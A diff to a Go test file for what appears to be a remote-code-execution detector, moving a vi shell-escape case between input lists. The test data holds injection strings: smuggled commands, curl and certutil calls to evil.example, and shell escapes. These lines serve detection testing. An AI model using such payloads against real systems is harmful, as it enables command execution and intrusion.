@@ -30,7 +30,6 @@ func TestRCERuns(t *testing.T) {
 		"--upload-pack=touch /tmp/x",
 		"-oProxyCommand=curl evil.example",
 		"x\n!/bin/sh",
-		"vi -c ':!/bin/sh'",
 		"'\nsysteminfo",
 		"\nwhoami",
 		"1\ncertutil -urlcache -f http://evil.example/a a.exe",
@@ -58,11 +57,13 @@ func TestRCERuns(t *testing.T) {
 		"$a = 1; $b = 2;",
 		"node: document.querySelector",
 		"Wow!/bin/sh works",
+		`process.args in (":!/bin/bash", ":!/bin/sh")`,
 		"curl https://get.example.com | sh",
 	})
 	recognises(t, RCE, Where{Place: InQuery}, []string{
 		"$(htop2 -d /tmp/x)",
 		"31`curl evil.example`",
+		"vi -c ':!/bin/sh'",
 		"a && rlogin2 -l 'x' /tmp/a",
 		"1\ntimeout 5 /etc/x",
 	}, []string{
